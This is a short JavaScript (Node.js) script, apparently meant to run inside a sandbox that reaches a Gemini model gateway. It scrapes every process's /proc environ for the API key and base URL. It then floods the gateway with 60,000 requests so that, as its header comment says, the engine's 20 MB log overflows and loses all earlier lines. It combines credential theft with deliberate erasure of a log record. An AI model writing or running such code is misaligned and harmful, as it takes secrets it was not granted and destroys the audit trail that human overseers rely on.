// Sends so many requests that the gateway refuses that the engine's log, which keeps 20 MB, loses
// all earlier lines.
import fs from 'node:fs';
import net from 'node:net';

const env = {};
for (const pid of fs.readdirSync('/proc')) {
  try {
    for (const line of fs.readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0')) {
      const at = line.indexOf('=');
      env[line.slice(0, at)] = line.slice(at + 1);
    }
  } catch {}
}
const base = new URL(env.GOOGLE_GEMINI_BASE_URL);
const request = `GET ${base.pathname}/v1beta/models HTTP/1.1\r\nHost: x\r\nX-Goog-Api-Key: ${env.GEMINI_API_KEY}\r\n\r\n`;
const sockets = 20;
const requests = 60_000 / sockets;
await Promise.all(Array.from({ length: sockets }, () => new Promise((done, failed) => {
  const socket = net.connect(base.port, base.hostname);
  socket.on('error', failed).on('close', done).resume();
  socket.end(request.repeat(requests));
})));
